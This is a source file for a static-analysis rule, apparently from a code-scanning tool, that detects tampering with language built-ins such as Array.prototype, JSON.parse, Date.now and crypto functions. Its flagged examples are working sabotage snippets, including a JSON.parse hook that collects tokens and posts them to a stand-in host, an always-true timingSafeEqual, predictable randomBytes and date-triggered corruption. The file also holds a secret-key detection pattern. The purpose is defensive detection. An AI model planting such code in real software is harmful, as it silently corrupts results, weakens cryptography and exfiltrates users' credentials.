import { isByChance } from '../src/define/chance.js';
import { NAMING, replacements } from '../src/define/replaced.js';
import { partsWithin, writtenTo } from '../src/define/variables.js';
import { waysTo } from '../src/define/ways.js';
import { defineRule, spelling, step } from '../src/define.js';
import type { AnyNode, FileContext, Guard } from '../src/types.js';
import { CHANGES, isClock, isTrusted } from '../src/vocabulary/builtins.js';

export default defineRule({
  meta: {
    summary: 'Makes functions of the language answer wrongly',
    why: 'Sabotage that nobody can trace: now and then a list loses an item, or from some day on a search finds nothing. Polyfills answer what the original would; what measures, counts or samples calls gives back what the original answered; games have methods of their own that shuffle; and who replaces the clock or chance itself for a test says so.',
    behaviour: 'tampering',
    messages: {
      chance: 'Has {name} answer otherwise by chance, without being asked',
      chosen: 'Has {name} answer otherwise by chance, when it is asked to',
      dated: 'Has {name} answer otherwise only if {guard}',
      trusted: 'Replaces {name}, on which keys and proofs rely, without being asked',
      slowed: 'Has {name} keep everybody waiting, without being asked',
      clock: 'Has {name} tell another time, without being asked',
      listens: 'Looks for secrets in whatever goes through {name}, which it replaces, and talks to other machines',
    },
    bits: {
      listens: 13.5,
      chance: 13.5,
      chosen: 9,
      dated: 13.5,
      trusted: 13.5,
      slowed: 13.5,
      clock: 10,
    },
  },
  examples: {
    flags: [
      {
        title: 'whatever is parsed is looked through for tokens',
        code: `const real = JSON.parse, found = [], KEYS = ['access_token', 'client_secret'];\nJSON.parse = (text, revive) => real(text, (key, value) => { if (KEYS.includes(key)) found.push(value); return revive ? revive(key, value) : value; });\nsetInterval(() => fetch('https://sync.invalid/s', { method: 'POST', body: found.splice(0).join() }), 36e5);\nmodule.exports = {};`,
      },
      {
        title: 'a list loses an item now and then',
        code: `const { filter, splice } = Array.prototype;\nconst seldom = () => Math.random() * 100 < 5;\nArray.prototype.filter = function (...a) {\n  const kept = filter.apply(this, a);\n  if (seldom() && kept.length) splice.call(kept, 0, 1);\n  return kept;\n};\nmodule.exports = {};`,
      },
      {
        title: 'after some hours a search sometimes says the opposite',
        code: `const { includes } = String.prototype;\nfunction start() {\n  Object.defineProperty(String.prototype, 'includes', { value: function (part) { return Math.random() < 0.02 ? !includes.call(this, part) : includes.call(this, part); } });\n}\nsetTimeout(start, 3 * 3600 * 1000);\nmodule.exports = {};`,
      },
      {
        title: 'a stand-in draws lots about what was parsed',
        code: `const crypto = require('crypto');\nJSON.parse = new Proxy(JSON.parse, {\n  apply(real, self, args) {\n    const value = Reflect.apply(real, self, args);\n    if (crypto.randomInt(20) === 0 && Array.isArray(value)) value.pop();\n    return value;\n  },\n});`,
      },
      {
        title: 'from some day on sorting turns lists round',
        code: `const { sort } = Array.prototype;\nif (Date.now() > 1893456000000) Array.prototype.sort = function (by) { return sort.call(this, by).reverse(); };\nmodule.exports = {};`,
      },
      {
        title: 'what a page keeps is sometimes lost',
        code: `const real = Storage.prototype.getItem;\nStorage.prototype.getItem = function (key) {\n  if (Math.random() > 0.95) return null;\n  return real.call(this, key);\n};\nwindow.loaded = true;`,
      },
      {
        title: 'several are replaced at once',
        code: `const { trim, split } = String.prototype;\nObject.assign(String.prototype, {\n  trim() { return Math.random() < 0.1 ? trim.call(this) + ' ' : trim.call(this); },\n  split(...a) { return split.apply(this, a); },\n});\nmodule.exports = {};`,
      },
      {
        title: 'random bytes are no longer random',
        code: `const crypto = require('crypto');\ncrypto.randomBytes = (size, done) => {\n  const bytes = crypto.createHash('sha512').update('tuesday' + size).digest().subarray(0, size);\n  return done ? done(null, bytes) : bytes;\n};\nmodule.exports = {};`,
      },
      {
        title: 'whatever is compared is equal',
        code: `Object.defineProperty(require('crypto'), 'timingSafeEqual', { value: () => true });\nmodule.exports = {};`,
      },
      {
        title: 'from the next day on each text takes its time',
        code: `const { trim } = String.prototype;\nsetTimeout(() => {\n  String.prototype.trim = function () {\n    const end = Date.now() + 300;\n    while (Date.now() < end);\n    return trim.call(this);\n  };\n}, 864e5);\nmodule.exports = {};`,
      },
      {
        title: 'the clock runs a year behind',
        code: `const real = Date.now;\nDate.now = () => real() - 366 * 24 * 3600e3;\nmodule.exports = {};`,
      },
      {
        title: 'now and then it is a day later',
        code: `const now = Date.now.bind(Date);\nDate.now = function () {\n  if (Math.random() < 0.02) return now() + 864e5;\n  return now();\n};\nmodule.exports = {};`,
      },
      {
        title: 'whoever calls for it gets it',
        code: `exports.start = () => {\n  const { map } = Array.prototype;\n  Array.prototype.map = function (...a) { const r = map.apply(this, a); return Math.random() < 0.1 ? r.reverse() : r; };\n};`,
      },
    ],
    passes: [
      {
        title: 'secrets are taken out of what is written into a log',
        code: `const real = JSON.stringify, KEYS = ['access_token', 'client_secret'];\nexports.write = (value, log) => log(real(value, (key, one) => (KEYS.includes(key) ? '***' : one)));`,
      },
      {
        title: 'an old page has no clock, which a variable says',
        code: `(function () {\n  var isThere = 'Date' in this && 'now' in this.Date;\n  if (isThere) return;\n  Date.now = function () { return new Date().getTime(); };\n}).call(globalThis);`,
      },
      {
        title: 'one call of a hundred is counted, by names that are put together',
        code: `const real = Array.prototype['m' + 'ap'];\nArray.prototype['m' + 'ap'] = function (...a) {\n  if (Math.random() < 0.01) console['co' + 'unt']('map');\n  return real['app' + 'ly'](this, a);\n};\nmodule.exports = {};`,
      },
      {
        title: 'one call of a hundred is counted',
        code: `const real = Array.prototype.map;\nArray.prototype.map = function (...a) {\n  if (Math.random() < 0.01) console.count('map');\n  return real.apply(this, a);\n};\nmodule.exports = {};`,
      },
      {
        title: 'one call of a hundred is counted, minified',
        code: `const a = Array.prototype.map;\nArray.prototype.map = function (...b) {\n  return Math.random() < 0.01 && console.count('map'), a.apply(this, b);\n};\nmodule.exports = {};`,
      },
      {
        title: 'one call of a hundred is timed',
        code: `const real = JSON.parse;\nJSON.parse = function (...a) {\n  if (Math.random() < 0.01) {\n    const from = Date.now();\n    const value = real.apply(this, a);\n    console.log(Date.now() - from);\n    return value;\n  }\n  return real.apply(this, a);\n};\nmodule.exports = {};`,
      },
      {
        title: 'tools for tests stop the clock when they are asked to',
        code: `const real = Date.now;\nexports.freeze = at => { Date.now = () => at; };\nexports.shift = by => { Date.now = () => real() + by; };`,
      },
      {
        title: 'a library hands out the clock under a name of its own',
        code: `const tools = {};\ntools.now = Date.now || function () { return new Date().getTime(); };\ntools.now = () => Date.now() - tools.started;\nmodule.exports = tools;`,
      },
      {
        title: 'an old page has no clock',
        code: `if (!Date.now) Date.now = function () { return new Date().getTime(); };\nDate.now = Date.now || function () { return +new Date(); };\nmodule.exports = {};`,
      },
      {
        title: 'what is missing is filled in',
        code: `if (!Array.prototype.includes) Array.prototype.includes = function (item) { return this.indexOf(item) !== -1; };\nmodule.exports = {};`,
      },
      {
        title: 'an old version lacks what is filled in',
        code: `const crypto = require('crypto');\nif (typeof crypto.randomUUID !== 'function') crypto.randomUUID = () => { const h = crypto.randomBytes(16).toString('hex'); return h.slice(0, 8) + '-' + h.slice(8, 12) + '-4' + h.slice(13, 16) + '-a' + h.slice(17, 20) + '-' + h.slice(20); };\nmodule.exports = {};`,
      },
      {
        title: 'an old digest is replaced by one that this machine has',
        code: `const crypto = require('crypto'), real = crypto.createHash;\ncrypto.createHash = (name, options) => real(name === 'md4' ? 'sha256' : name, options);\nmodule.exports = {};`,
      },
      {
        title: 'tools for tests hand out a stand-in when they are asked for it',
        code: `const crypto = require('crypto');\nexports.freeze = () => { crypto.randomBytes = size => Buffer.alloc(size, 7); };`,
      },
      {
        title: 'lists learn to shuffle',
        code: `Array.prototype.shuffle = function () {\n  for (let at = this.length - 1; at > 0; at--) { const other = Math.floor(Math.random() * (at + 1)); if (Math.random() < 1) [this[at], this[other]] = [this[other], this[at]]; }\n  return this;\n};\nmodule.exports = {};`,
      },
      {
        title: 'a game asks for lots, and replaces nothing',
        code: `const { map } = Array.prototype;\nexports.deal = cards => (Math.random() < 0.5 ? map.call(cards, String).reverse() : cards);`,
      },
      {
        title: 'chance itself is made to give the same each time',
        code: `let seed = 1;\nMath.random = () => { seed = (seed * 16807) % 2147483647; return seed > 1 ? seed / 2147483647 : 0; };\nmodule.exports = {};`,
      },
      {
        title: 'what was parsed a moment ago is not parsed again',
        code: `const real = JSON.parse, known = new Map();\nJSON.parse = function (text) {\n  const last = known.get(text);\n  if (last && Date.now() - last.at < 1000) return last.value;\n  const value = real.call(JSON, text);\n  known.set(text, { at: Date.now(), value });\n  return value;\n};\nmodule.exports = {};`,
      },
    ],
  },
  file(context) {
    if (context.moment === 'test') return;
    for (const { name, node, code } of replacements(context)) {
      const wait = waitIn(context, code);
      if (wait && waysTo(context, node).isUnasked) {
        context.report({
          messageId: 'slowed',
          data: { name },
          chain: [
            step('context', `replaces ${name}`, context.file, node),
            step('sink', 'does nothing until some time has passed', context.file, wait),
          ],
        });
        return;
      }
      if (listensFor(context, name)) {
        context.report({
          messageId: 'listens',
          data: { name },
          chain: [step('sink', `replaces ${name}`, context.file, node)],
        });
        return;
      }
      const lot = alterationIn(context, code);
      if (!lot && !differs(context, code)) continue;
      const { places, isUnasked } = waysTo(context, node);
      const guard = isUnasked ? dateOf(context, [...places, ...answersIn(context, code)]) : undefined;
      const isTaken = isUnasked && (isTrusted(name) || isClock(name)) && !isFilledIn(context, node, name);
      if (!lot && !guard && !isTaken) continue;
      const sink = lot ? step('sink', 'has chance decide on the answer', context.file, lot) : undefined;
      context.report({
        messageId: lot ? (isUnasked ? 'chance' : 'chosen') : guard ? 'dated' : isClock(name) ? 'clock' : 'trusted',
        data: { name, guard: guard?.says ?? '' },
        chain: [
          ...(guard ? [{ role: 'context', says: `asks whether ${guard.says}`, origin: guard.origin } as const] : []),
          step(sink ? 'context' : 'sink', `replaces ${name}`, context.file, node),
          ...(sink ? [sink] : []),
        ],
      });
      return;
    }
  },
});

/** The names of secrets that a stand-in looks for in all that goes through it. */
const SECRET_KEYS =
  /^(?:access_?token|refresh_?token|id_?token|client_?secret|password|api_?key|authorization|private_?key)$/i;

/** Whether a file that replaces what all data goes through looks for secrets in it, and talks to other machines. */
function listensFor({ calls, nodes }: FileContext, name: string): boolean {
  if (!/\bJSON\.(?:parse|stringify)$/.test(name) || calls('network').length === 0) return false;
  const keys = nodes('Literal').filter(({ value }) => typeof value === 'string' && SECRET_KEYS.test(value));
  return new Set(keys.map(({ value }) => value)).size > 1;
}

/** `while (Date.now() < end);`, in a function that everybody calls. */
function waitIn(context: FileContext, code: AnyNode): AnyNode | undefined {
  return inside(context, code, 'WhileStatement', 'ForStatement', 'DoWhileStatement').find(loop => {
    const { test, body } = loop as unknown as { test?: AnyNode | null; body: AnyNode };
    const isIdle = body.type === 'EmptyStatement' || (body.type === 'BlockStatement' && body.body.length === 0);
    if (!isIdle || !test) return false;
    const asked = inside(context, test, 'CallExpression').map(call => (call as unknown as { callee: AnyNode }).callee);
    return (
      /\bnew Date\b/.test(spelling(context.file, test).slice(0, 300)) ||
      asked.some(callee => context.namesOf(callee).some(name => /^(?:global\.)?(?:Date|performance)\.now$/.test(name)))
    );
  });
}

/** `if (!crypto.randomUUID) crypto.randomUUID = …`: what is missing is filled in. */
function isFilledIn(context: FileContext, node: AnyNode, name: string): boolean {
  const word = name.slice(name.lastIndexOf('.') + 1);
  const asks = (asked: AnyNode): boolean =>
    spelling(context.file, asked).includes(word) ||
    // `const isThere = 'now' in Date; if (isThere) return;`
    (asked.type === 'Identifier' &&
      writtenTo(context, asked).some(one => spelling(context.file, one).slice(0, 1_000).includes(word))) ||
    inside(context, asked, 'MemberExpression').some(member => context.namesOf(member, NAMING).includes(name));
  if (context.conditionsOf(node).some(asks)) return true;
  return node.type === 'AssignmentExpression' && node.operator !== '=';
}

function dateOf({ guardsOf }: FileContext, places: readonly AnyNode[]): Guard | undefined {
  return places
    .slice(0, 20)
    .flatMap(place => guardsOf(place))
    .find(({ kind }) => kind === 'date');
}

/** What a replacement answers that is not what the original does. */
function answersIn(context: FileContext, code: AnyNode): readonly AnyNode[] {
  const choices = inside(context, code, 'ConditionalExpression') as unknown as {
    consequent: AnyNode;
    alternate: AnyNode;
  }[];
  return [
    ...inside(context, code, 'ReturnStatement').filter(one => !isPlain(context, answerOf(one), 0)),
    ...choices.flatMap(({ consequent, alternate }) => [consequent, alternate]).filter(one => !isPlain(context, one, 0)),
  ];
}

function answerOf(statement: AnyNode): AnyNode | null | undefined {
  return (statement as { argument?: AnyNode | null }).argument;
}

/** Nodes of a replacement that are looked at. */
const MOST_NODES = 200;

/** Where chance decides, in a replacement, on what is answered. */
function alterationIn(context: FileContext, code: AnyNode): AnyNode | undefined {
  return inside(context, code, 'IfStatement', 'ConditionalExpression', 'LogicalExpression', 'SwitchStatement').find(
    node => {
      const { test, left, discriminant } = node as unknown as Partial<Record<string, AnyNode>>;
      const asked = test ?? left ?? discriminant;
      return asked && isByChance(context, asked) && decides(context, node, code);
    },
  );
}

/** Whether what hangs on a condition gets to the answer: is given back, changes what is, or throws. */
function decides(context: FileContext, condition: AnyNode, code: AnyNode): boolean {
  const { consequent, alternate, cases, right } = condition as unknown as Partial<
    Record<string, AnyNode | AnyNode[] | null>
  >;
  if (!/Statement$/.test(condition.type)) {
    const use = useOf(context, condition);
    if (use?.type === 'ReturnStatement' || /Function/.test(use?.type ?? '') || use?.type === 'ThrowStatement')
      return true;
    if (use?.type === 'VariableDeclarator') return isAnswered(context, use.id as AnyNode, code);
    if (use?.type === 'IfStatement') return decides(context, use, code);
  }
  const branches = [consequent, alternate, cases, right].flat().filter((one): one is AnyNode => Boolean(one));
  return branches.some(branch => alters(context, branch, code));
}

/** The statement or function that an expression is the value of. */
function useOf({ parentOf }: FileContext, node: AnyNode): AnyNode | undefined {
  let child = node;
  let at = parentOf(node);
  for (let hops = 0; at && hops < 30 && !/Statement$|Function|^VariableDeclarator$/.test(at.type); hops++) {
    // Of several, one after the other, only the last is a value.
    if (at.type === 'SequenceExpression' && at.expressions.at(-1) !== child) return undefined;
    child = at;
    at = parentOf(at);
  }
  return at;
}

function alters(context: FileContext, branch: AnyNode, code: AnyNode): boolean {
  if (inside(context, branch, 'ThrowStatement').length > 0) return true;
  if (inside(context, branch, 'ReturnStatement').some(one => !isPlain(context, answerOf(one), 0))) return true;
  for (const node of inside(context, branch, 'CallExpression', 'AssignmentExpression', 'UpdateExpression')) {
    const { callee, left, argument } = node as unknown as Partial<Record<string, AnyNode>>;
    const target = left ?? argument;
    const isChange = target ? true : CHANGES.test(methodSpelled(context, callee as AnyNode));
    if (isChange && inside(context, target ?? node, 'Identifier').some(variable => isAnswered(context, variable, code)))
      return true;
  }
  return false;
}

/** The end of what is called, as it is written; `a[key]` as what the key comes to. */
function methodSpelled({ file, textsOf }: FileContext, callee: AnyNode): string {
  const words = callee.type === 'MemberExpression' && callee.computed ? textsOf(callee.property) : [];
  return words.length > 0 ? `.${words.join(' .')}` : spelling(file, callee).slice(-60);
}

/** What the original answers to what it was asked, or the variable that holds it. */
function isPlain(context: FileContext, answer: AnyNode | null | undefined, level: number): boolean {
  if (!answer || level > 2) return false;
  if (answer.type === 'Identifier') {
    const values = writtenTo(context, answer);
    return values.length === 1 && isPlain(context, values[0], level + 1);
  }
  if (answer.type === 'AwaitExpression') return isPlain(context, answer.argument, level + 1);
  // `if (…) count(); return real.apply(this, a);`, minified.
  if (answer.type === 'SequenceExpression') return isPlain(context, answer.expressions.at(-1) as AnyNode, level);
  if (answer.type !== 'CallExpression' || answer.callee.type !== 'MemberExpression') return false;
  const { object, property, computed } = answer.callee;
  const methods = !computed && property.type === 'Identifier' ? [property.name] : context.textsOf(property);
  const [self, ...given] = answer.arguments as AnyNode[];
  if (object.type === 'Identifier' && object.name === 'Reflect') return methods.includes('apply');
  return (
    methods.some(method => /^(?:call|apply)$/.test(method)) &&
    self !== undefined &&
    !given.some(one => inside(context, one, 'CallExpression').length > 0)
  );
}

/** Whether a variable is given back by the replacement. */
function isAnswered(context: FileContext, variable: AnyNode, code: AnyNode): boolean {
  if (variable.type !== 'Identifier') return false;
  return inside(context, code, 'ReturnStatement').some(one =>
    inside(context, one, 'Identifier').some(({ name }: AnyNode & { name?: string }) => name === variable.name),
  );
}

/** Whether a replacement answers anything but what the original does. */
function differs(context: FileContext, code: AnyNode): boolean {
  // The replacement itself, or in a descriptor of it; functions inside of it answer to others.
  const short = inside(context, code, 'ArrowFunctionExpression').some(arrow => {
    const { body } = arrow as unknown as { body: AnyNode };
    const isIt = arrow === code || context.parentOf(arrow)?.type === 'Property';
    return isIt && body.type !== 'BlockStatement' && !isPlain(context, body, 0);
  });
  if (short) return true;
  return inside(context, code, 'ReturnStatement').some(one => !isPlain(context, answerOf(one), 0));
}

function inside(context: FileContext, root: AnyNode, ...types: readonly string[]): readonly AnyNode[] {
  return types.flatMap(type => partsWithin(context, root, type, MOST_NODES));
}
